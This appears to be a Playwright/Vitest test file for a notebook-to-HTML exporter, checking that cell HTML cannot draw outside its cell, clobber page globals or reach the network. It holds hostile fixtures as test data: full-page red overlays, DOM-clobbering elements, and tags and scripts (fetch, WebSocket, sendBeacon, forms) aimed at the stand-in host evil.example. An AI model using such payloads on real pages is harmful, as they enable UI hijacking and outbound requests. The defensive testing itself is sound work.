import { mkdirSync, rmSync, writeFileSync } from "node:fs";
import { join, resolve } from "node:path";
import { pathToFileURL } from "node:url";
import type { ICodeCell, IMimeBundle, INotebookContent } from "@jupyterlab/nbformat";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { offlinePolicy } from "../../../lib/tools/html/offline-policy";
import { exportPage } from "../../../lib/tools/html/page";
import { indexPage } from "../../../lib/tools/html/site";
import { launchChromium } from "../../../lib/tools/render/chromium";
import { exportDeck } from "../../../lib/tools/slides/deck";
import { deckReady } from "../slides/browser-helpers";

const OUT = resolve("build/test-cell-confinement");
const EVIL = "http://evil.example";

/** Cell HTML that draws outside its cell, each kind in pure red (rgb(255, 0, 0)), over the page and the other cells. */
const ESCAPES: Record<string, string> = {
  "fixed-inline": '<div style="position:fixed;inset:0;background:#f00;z-index:2147483647">fixed cover</div>',
  "fixed-sheet":
    "<style>.cover{position:fixed;top:0;left:0;width:100vw;height:100vh;background:#f00;z-index:99999}</style><div class=cover>sheet cover</div>",
  "fixed-scope-root":
    "<style>:scope{position:fixed!important;inset:0;background:#f00;z-index:99999;contain:none!important;overflow:visible!important}</style>the cell's own box made fixed",
  "absolute-offsets":
    '<div style="position:absolute;top:-3000px;left:-3000px;width:9000px;height:9000px;background:#f00">absolute</div>',
  sticky: '<div style="position:sticky;top:0;height:2000px;margin-bottom:-2000px;background:#f00;z-index:9">sticky</div>',
  "negative-margins": '<div style="margin:-600px -600px;height:1400px;background:#f00">negative margins</div>',
  transform: '<div style="transform:translateY(-400px) scale(30);width:40px;height:20px;background:#f00">transform</div>',
  "z-index": '<div style="position:relative;z-index:2147483647;margin-top:-400px;height:900px;background:#f00">z</div>',
  outline: '<div style="outline:3000px solid #f00">outline</div>',
  "box-shadow": '<div style="box-shadow:0 0 0 3000px #f00">box-shadow</div>',
  "dialog-open":
    '<dialog open style="position:fixed;inset:0;width:100vw;height:100vh;max-width:none;max-height:none;background:#f00">dialog</dialog>',
  "before-after":
    '<style>p.pseudo::before,p.pseudo::after{content:"";position:fixed;inset:0;background:#f00;z-index:99999}</style><p class="pseudo">pseudo</p>',
  "svg-overflow":
    '<svg width="20" height="20" style="overflow:visible"><rect x="-3000" y="-3000" width="9000" height="9000" fill="#f00"/></svg>',
  marquee: '<marquee style="width:9000px;background:#f00">marquee</marquee>',
  popover:
    '<button popovertarget="pop" id="open-popover">open popover</button><div popover id="pop" style="position:fixed;inset:0;width:100vw;height:100vh;background:#f00">popover</div>',
  "command-modal":
    '<button commandfor="modal" command="show-modal" id="open-modal">open modal</button><dialog id="modal" style="width:100vw;height:100vh;max-width:none;max-height:none;background:#f00">modal</dialog>',
  "popover-hint":
    '<button popovertarget="hint" popovertargetaction="show" id="open-hint">hint</button><div popover="hint" id="hint" style="background:#f00;width:3000px;height:3000px">hint</div>',
};

/** Cell HTML that would reach the network or navigate the page away: each URL names its kind (`/k/<kind>`). */
const NETWORK: Record<string, string> = {
  img: `<img src="${EVIL}/k/img">`,
  srcset: `<img srcset="${EVIL}/k/srcset 1x" alt="s">`,
  picture: `<picture><source srcset="${EVIL}/k/picture"><img alt="p"></picture>`,
  "css-url": `<div style="width:10px;height:10px;background:url(${EVIL}/k/css-url)"></div>`,
  "sheet-url": `<style>.bg{background-image:url("${EVIL}/k/sheet-url")}</style><div class="bg" style="width:10px;height:10px"></div>`,
  "font-face": `<style>@font-face{font-family:Evil;src:url(${EVIL}/k/font-face)} .ff{font-family:Evil}</style><p class="ff">font</p>`,
  // inert once scoped (@import is only valid at a sheet's top): kept to show it stays so
  import: `<style>@import url("${EVIL}/k/import");</style>`,
  video: `<video src="${EVIL}/k/video" preload="auto"></video>`,
  "video-poster": `<video poster="${EVIL}/k/video-poster"></video>`,
  audio: `<audio preload="auto"><source src="${EVIL}/k/audio"></audio>`,
  track: `<video preload="auto" src="data:video/mp4;base64,AAAA"><track default kind="captions" src="${EVIL}/k/track"></video>`,
  "svg-image": `<svg width="10" height="10"><image href="${EVIL}/k/svg-image" width="10" height="10"/></svg>`,
  "svg-feimage": `<svg width="10" height="10"><filter id="f"><feImage href="${EVIL}/k/svg-feimage"/></filter><rect width="10" height="10" filter="url(#f)"/></svg>`,
  iframe: `<iframe src="${EVIL}/k/iframe"></iframe>`,
  "input-image": `<input type="image" src="${EVIL}/k/input-image" alt="i">`,
  "table-background": `<table background="${EVIL}/k/table-background"><tr><td>t</td></tr></table>`,
};

/** Trusted output scripts that reach out (an output computed by this run may run its scripts, never the network). */
const NETWORK_SCRIPT = `<script>
fetch("${EVIL}/k/fetch").catch(() => {});
try { new WebSocket("${EVIL.replace("http", "ws")}/k/websocket"); } catch {}
try { navigator.sendBeacon("${EVIL}/k/beacon", "x"); } catch {}
try { new EventSource("${EVIL}/k/eventsource"); } catch {}
const x = new XMLHttpRequest(); x.open("GET", "${EVIL}/k/xhr"); x.onerror = () => {}; try { x.send(); } catch {}
</script>`;

/** Forms that navigate the page away when submitted: to another site, or to the page itself (action left out). */
const FORMS = `<form action="${EVIL}/k/form" method="get"><input name="q" value="1"><button id="submit-away">submit</button></form>
<form><input name="here" value="1"><button id="submit-here">submit here</button></form>
<a id="ping-link" href="#ping-target" ping="${EVIL}/k/ping">ping link</a><span id="ping-target"></span>`;

const md = (id: string, source: string) => ({ cell_type: "markdown" as const, id, metadata: {}, source });
const output = (id: string, data: Record<string, unknown>, metadata: Record<string, unknown> = {}): ICodeCell => ({
  cell_type: "code" as const,
  id,
  execution_count: 1,
  metadata: {},
  source: `display(${JSON.stringify(id)})`,
  outputs: [{ output_type: "display_data", data: data as IMimeBundle, metadata: metadata as never }],
});
const notebook = (cells: INotebookContent["cells"], title = "# Confinement"): INotebookContent => ({
  cells: [md("title", title), ...cells],
  metadata: {},
  nbformat: 4,
  nbformat_minor: 5,
});
const ordinary = (i: number) =>
  md(`ordinary-${i}`, `<p class="ordinary" id="ordinary-${i}">Ordinary cell ${i}: plain text a reader clicks.</p>`);

/** Every escape kind twice (a markdown cell, an HTML output), each between two ordinary cells. */
function escapesNotebook(): INotebookContent {
  const cells: INotebookContent["cells"] = [ordinary(0)];
  let i = 1;
  for (const [kind, html] of Object.entries(ESCAPES)) {
    cells.push(md(`md-${kind}`, html), ordinary(i++));
    cells.push(output(`out-${kind}`, { "text/html": html, "text/plain": kind }), ordinary(i++));
  }
  return notebook(cells);
}

/** Red pixels of a screenshot (PNG) outside the given boxes (CSS px of the screenshot), decoded by the browser. */
async function redOutside(helper: Page, png: Buffer, boxes: { x: number; y: number; width: number; height: number }[]) {
  return helper.evaluate(
    async ({ b64, boxes }) => {
      const img = new Image();
      img.src = `data:image/png;base64,${b64}`;
      await img.decode();
      const c = document.createElement("canvas");
      [c.width, c.height] = [img.naturalWidth, img.naturalHeight];
      const g = c.getContext("2d")!;
      g.drawImage(img, 0, 0);
      const d = g.getImageData(0, 0, c.width, c.height).data;
      const inside = (x: number, y: number) =>
        boxes.some((b) => x >= b.x - 1 && x <= b.x + b.width + 1 && y >= b.y - 1 && y <= b.y + b.height + 1);
      let count = 0;
      let first: [number, number] | undefined;
      for (let y = 0; y < c.height; y++) {
        for (let x = 0; x < c.width; x++) {
          const k = (y * c.width + x) * 4;
          if (d[k] === 255 && d[k + 1] === 0 && d[k + 2] === 0 && !inside(x, y)) {
            count++;
            first ??= [x, y];
          }
        }
      }
      return { count, first };
    },
    { b64: png.toString("base64"), boxes },
  );
}

describe("a cell's HTML stays in its cell; exported pages and decks are offline; every image type is shown", () => {
  let browser: Browser;
  let helper: Page;
  beforeAll(async () => {
    rmSync(OUT, { recursive: true, force: true });
    mkdirSync(OUT, { recursive: true });
    browser = await launchChromium("/usr/bin/chromium");
    helper = await browser.newPage();
  }, 120_000);
  afterAll(async () => {
    await browser?.close();
  });

  /** A page (or a context's page) that records every request that reaches the network (not file:, data:, blob:), and aborts it. */
  async function openRecording(file: string, context?: BrowserContext) {
    const page = context ? await context.newPage() : await browser.newPage({ viewport: { width: 1280, height: 720 } });
    const requests: string[] = [];
    const errors: string[] = [];
    page.on("console", (m) => {
      if (m.type() === "error") errors.push(m.text());
    });
    page.on("pageerror", (e) => errors.push(String(e)));
    await page.context().route("**/*", (route) => {
      const url = route.request().url();
      if (/^(file|data|blob):/.test(url)) return route.continue();
      requests.push(url);
      return route.abort("internetdisconnected");
    });
    // (a request the page's policy refuses is announced by Playwright and fails with "csp": it never reaches the network)
    page.on("websocket", (ws) => requests.push(ws.url()));
    await page.goto(pathToFileURL(file).href);
    return { page, requests, errors };
  }

  /** Each ordinary cell in view is what a reader hits at its centre, and no red pixel lies outside the hostile boxes. */
  async function expectConfined(page: Page, boxSelector: string) {
    const ordinaries = await page.locator("p.ordinary").count();
    expect(ordinaries).toBeGreaterThan(10);
    for (let i = 0; i < ordinaries; i++) {
      const p = page.locator(`#ordinary-${i}`);
      await p.scrollIntoViewIfNeeded();
      const hit = await p.evaluate((el) => {
        const r = el.getBoundingClientRect();
        const at = document.elementFromPoint(r.left + Math.min(r.width / 2, 40), r.top + r.height / 2);
        return { inside: !!at && el.contains(at), at: at ? `${at.tagName}.${at.className} ${at.textContent?.slice(0, 40)}` : "" };
      });
      expect(hit, `ordinary cell ${i} covered by ${hit.at}`).toMatchObject({ inside: true });
      await p.click({ timeout: 5_000 });
      const boxes = await page.locator(boxSelector).evaluateAll((els) =>
        els.map((e) => {
          const r = e.getBoundingClientRect();
          return { x: r.x, y: r.y, width: r.width, height: r.height };
        }),
      );
      const red = await redOutside(helper, await page.screenshot(), boxes);
      expect(red, `red drawn outside the hostile cells with ordinary cell ${i} in view`).toEqual({ count: 0 });
    }
  }

  it("every escape kind (fixed, absolute, sticky, margins, transform, z-index, outline, shadow, dialog, ::before, SVG, marquee, popover, invoker command) stays in its cell's box on a page", async () => {
    const exported = exportPage(escapesNotebook());
    const file = join(OUT, "escapes.html");
    writeFileSync(file, exported.html);
    const { page, requests } = await openRecording(file);
    const hostile = "[data-hostile]";
    await page.evaluate(() => {
      for (const el of Array.from(document.querySelectorAll(".markdown-cell, .output-html"))) {
        if (!el.querySelector("p.ordinary") && !el.closest("[data-title]")) el.setAttribute("data-hostile", "");
      }
    });
    await expectConfined(page, hostile);
    // the buttons that would open the top layer open nothing; the popover's content shows in its cell
    // (clicked by script: the popover shown in place covers its own cell's button, which is allowed)
    for (const id of ["open-popover", "open-modal", "open-hint"]) {
      for (const b of await page.locator(`#${id}`).all()) await b.evaluate((el) => (el as HTMLButtonElement).click());
    }
    expect(await page.evaluate(() => document.querySelectorAll(":popover-open, :modal").length)).toBe(0);
    expect(await page.locator("#pop").first().isVisible()).toBe(true);
    await expectConfined(page, hostile);
    expect(exported.warnings.some((w) => w.includes("(id md-popover)") && w.includes("popover shown in place"))).toBe(true);
    expect(requests).toEqual([]);
    await page.close();
  }, 240_000);

  it("the same cells on a deck's slide stay in their boxes", async () => {
    const nb = notebook([
      ordinary(0),
      md("md-fixed", ESCAPES["fixed-inline"]),
      ordinary(1),
      md("md-shadow", ESCAPES["box-shadow"]),
      ordinary(2),
    ]);
    const file = join(OUT, "deck.html");
    writeFileSync(file, exportDeck(nb).html);
    const { page } = await openRecording(file);
    await deckReady(page);
    for (const i of [0, 1, 2]) {
      const hit = await page.locator(`#ordinary-${i}`).evaluate((el) => {
        const r = el.getBoundingClientRect();
        const at = document.elementFromPoint(r.left + 20, r.top + r.height / 2);
        return !!at && el.contains(at);
      });
      expect(hit, `ordinary cell ${i} on the slide`).toBe(true);
    }
    await page.close();
  }, 120_000);

  it("a cell cannot take the page's own names: ids, window globals and figure classes (DOM clobbering)", async () => {
    const clobbering = [
      '<div id="Plotly">not plotly.js</div><img name="dl4nlpPlotsDrawn" alt="">',
      '<script type="application/json" id="dl4nlp-plot-options">{"fixed":{"width":1,"height":1,"maxWidth":1,"maxHeight":1}}</script>',
      '<script type="application/json" class="dl4nlp-plot-data" data-for="plot-1">{"data":[]}</script>',
      '<div class="dl4nlp-plot" id="plot-9"></div><div id="PLOT-1"></div>',
      '<script type="application/json" id="dl4nlp-deck-config">{"width":10,"height":10}</script>',
    ].join("\n");
    const figure = { data: [{ type: "scatter", x: [1, 2, 3], y: [3, 1, 2] }], layout: {} };
    const nb = notebook([md("clobber", clobbering), output("figure", { "application/vnd.plotly.v1+json": figure })]);
    const exported = exportPage(nb);
    expect(exported.warnings.some((w) => w.includes("(id clobber)") && w.includes(`id="Plotly" removed`))).toBe(true);
    const file = join(OUT, "clobber.html");
    writeFileSync(file, exported.html);
    const { page, requests } = await openRecording(file);
    expect(await page.evaluate(() => (window as unknown as { dl4nlpPlotsDrawn: Promise<number> }).dl4nlpPlotsDrawn)).toBe(1);
    expect(await page.locator(".output-plotly .dl4nlp-plot .scatterlayer .trace").count()).toBe(1);
    expect(await page.locator(".output-plotly .dl4nlp-plot").evaluate((e) => e.getBoundingClientRect().width)).toBeGreaterThan(
      300,
    );
    await page.close();
    const deckFile = join(OUT, "clobber-deck.html");
    writeFileSync(deckFile, exportDeck(nb).html);
    const deck = await openRecording(deckFile);
    await deckReady(deck.page);
    expect(
      await deck.page.evaluate(
        () => (window as unknown as { Reveal: { getConfig(): { width: number } } }).Reveal.getConfig().width,
      ),
    ).toBeGreaterThan(100);
    expect(await deck.page.locator(".dl4nlp-plot .scatterlayer .trace").count()).toBe(1);
    expect([...requests, ...deck.requests]).toEqual([]);
    await deck.page.close();
  }, 120_000);

  it("the index page's titles and goals stay in their entries", async () => {
    const file = join(OUT, "index.html");
    const entries = [0, 1, 2].map((i) => ({
      href: `n${i}.html`,
      title: i === 1 ? `Hostile <span style="position:fixed;inset:0;background:#f00">cover</span>` : `Notebook ${i}`,
      goal: i === 1 ? '<span style="box-shadow:0 0 0 3000px #f00">goal</span>' : `goal ${i}`,
    }));
    writeFileSync(file, indexPage(entries, { heading: "Notebooks" }));
    const { page } = await openRecording(file);
    for (const i of [0, 2]) {
      const hit = await page.locator(`a[href="n${i}.html"]`).evaluate((el) => {
        const r = el.getBoundingClientRect();
        const at = document.elementFromPoint(r.left + r.width / 2, r.top + r.height / 2);
        return !!at && el.contains(at);
      });
      expect(hit, `entry ${i}`).toBe(true);
    }
    await page.close();
  });

  describe("offline: nothing a cell holds reaches the network or submits the page away", () => {
    const networkNotebook = () =>
      notebook([
        ...Object.entries(NETWORK).map(([kind, html]) => md(`md-${kind}`, html)),
        ...Object.entries(NETWORK).map(([kind, html]) => output(`out-${kind}`, { "text/html": html })),
        output("scripts", { "text/html": NETWORK_SCRIPT }),
        md("forms", FORMS),
      ]);
    let file: string;
    beforeAll(() => {
      // trusted: the output's scripts run (as for outputs the export computed); the network stays closed to them
      file = join(OUT, "network.html");
      writeFileSync(file, exportPage(networkNotebook(), { trustOutputs: true }).html);
    });
    const kindsOf = (urls: string[]) => [...new Set(urls.map((u) => /\/k\/([a-z-]+)/.exec(u)?.[1] ?? u))].sort();
    const ALL_KINDS = [...Object.keys(NETWORK), "fetch", "websocket", "beacon", "eventsource", "xhr", "form", "ping"].sort();
    /** Kinds that reach out on their own schedule (a track loads once its video has metadata): not required in the control. */
    const SOMETIMES = new Set(["import", "track"]);
    // clicked by script (a locator would wait for the navigation the policy blocks)
    const press = (page: Page, id: string) => page.evaluate((i) => document.getElementById(i)?.click(), id);

    /** Follows the ping link and submits the form to another site (and, when asked, the one to the page itself). */
    async function submitAndPing(page: Page, here: boolean) {
      await press(page, "ping-link");
      await page.waitForTimeout(300);
      await press(page, "submit-away");
      await page.waitForTimeout(800);
      if (here) await press(page, "submit-here");
      await page.waitForTimeout(800);
    }

    it("without the page's policy (bypassCSP) each kind would reach out: the cells are real requests", async () => {
      const context = await browser.newContext({ bypassCSP: true, viewport: { width: 1280, height: 720 } });
      const { page, requests } = await openRecording(file, context);
      await page.waitForTimeout(1500);
      await submitAndPing(page, false);
      const reached = kindsOf(requests.filter((u) => u.startsWith(EVIL) || u.startsWith("ws://evil")));
      expect(reached.filter((k) => !SOMETIMES.has(k))).toEqual(ALL_KINDS.filter((k) => !SOMETIMES.has(k)));
      await context.close();
    }, 120_000);

    it("with it: no request leaves the page, no form navigates it, and the document says so in its head, first", async () => {
      const { page, requests } = await openRecording(file);
      await page.waitForTimeout(1500);
      await submitAndPing(page, true);
      expect(page.url()).toBe(pathToFileURL(file).href.concat(page.url().endsWith("#ping-target") ? "#ping-target" : ""));
      expect(requests).toEqual([]);
      const html = exportPage(networkNotebook()).html;
      const policy = html.indexOf('http-equiv="Content-Security-Policy"');
      expect(policy).toBeGreaterThan(0);
      expect(policy).toBeLessThan(html.indexOf("<style"));
      expect(offlinePolicy()).toContain("default-src 'none'");
      expect(exportDeck(networkNotebook()).html.indexOf('http-equiv="Content-Security-Policy"')).toBeGreaterThan(0);
      await page.close();
    }, 120_000);
  });

  it("every image type JupyterLab shows (bmp, png, jpeg, gif, webp, svg) is shown, sized by its metadata; bad base64 is named", async () => {
    const made = await helper.evaluate(() => {
      const c = document.createElement("canvas");
      [c.width, c.height] = [6, 4];
      const g = c.getContext("2d")!;
      g.fillStyle = "#1f77b4";
      g.fillRect(0, 0, 6, 4);
      const b64 = (type: string) => c.toDataURL(type).split(",")[1];
      return { png: b64("image/png"), jpeg: b64("image/jpeg"), webp: b64("image/webp") };
    });
    // a 2×1 24-bit BMP: file header, info header, one row of two pixels (BGR) padded to 4 bytes
    const bmp = Buffer.alloc(62);
    bmp.write("BM", 0, "ascii");
    bmp.writeUInt32LE(62, 2);
    bmp.writeUInt32LE(54, 10);
    bmp.writeUInt32LE(40, 14);
    bmp.writeInt32LE(2, 18);
    bmp.writeInt32LE(1, 22);
    bmp.writeUInt16LE(1, 26);
    bmp.writeUInt16LE(24, 28);
    bmp.writeUInt32LE(8, 34);
    bmp.set([0xb4, 0x77, 0x1f, 0xb4, 0x77, 0x1f], 54);
    const gif = "R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==";
    const svg =
      '<svg xmlns="http://www.w3.org/2000/svg" width="30" height="20"><rect width="30" height="20" fill="#1f77b4"/></svg>';
    const wrap = (s: string) => `${s.slice(0, 10)}\n${s.slice(10)}`; // stored base64 may hold line breaks
    const nb = notebook([
      output("bmp", { "image/bmp": bmp.toString("base64"), "text/plain": "bmp" }),
      output("png", { "image/png": wrap(made.png), "text/plain": "png" }, { "image/png": { width: 60, height: 40 } }),
      output("jpeg", { "image/jpeg": made.jpeg, "text/plain": "jpeg" }, { needs_background: "light" }),
      output("gif", { "image/gif": gif, "text/plain": "gif" }),
      output("webp", { "image/webp": made.webp, "text/plain": "webp" }, { "image/webp": { width: "9px", unconfined: true } }),
      output("svg", { "image/svg+xml": svg, "text/plain": "svg" }),
      output("bad", { "image/png": "not base64 <script>", "text/plain": "bad png text" }),
    ]);
    const exported = exportPage(nb);
    const file = join(OUT, "images.html");
    writeFileSync(file, exported.html);
    const { page, requests, errors } = await openRecording(file);
    const images = await page.locator(".output-image img").evaluateAll((imgs) =>
      (imgs as HTMLImageElement[]).map((i) => ({
        type: i.src.slice(5, i.src.indexOf(";")),
        natural: i.naturalWidth,
        width: i.getBoundingClientRect().width,
        attr: i.getAttribute("width"),
      })),
    );
    expect(images.map((i) => i.type)).toEqual([
      "image/bmp",
      "image/png",
      "image/jpeg",
      "image/gif",
      "image/webp",
      "image/svg+xml",
    ]);
    for (const i of images) expect(i.natural, i.type).toBeGreaterThan(0);
    // width/height honoured as JupyterLab does: numbers only
    expect(images[1]).toMatchObject({ width: 60, attr: "60" });
    expect(images[4].attr).toBeNull();
    expect(await page.locator(".output-image.unconfined img").count()).toBe(1);
    expect(await page.locator(".needs-light-background img").evaluate((i) => getComputedStyle(i).backgroundColor)).toBe(
      "rgb(255, 255, 255)",
    );
    expect(await page.locator("pre.output-text").filter({ hasText: "bad png text" }).count()).toBe(1);
    expect(exported.warnings).toContain("cell 8 (id bad): its image/png output is not base64 data; not shown");
    expect(requests).toEqual([]);
    expect(errors).toEqual([]);
    await page.close();
  });
});
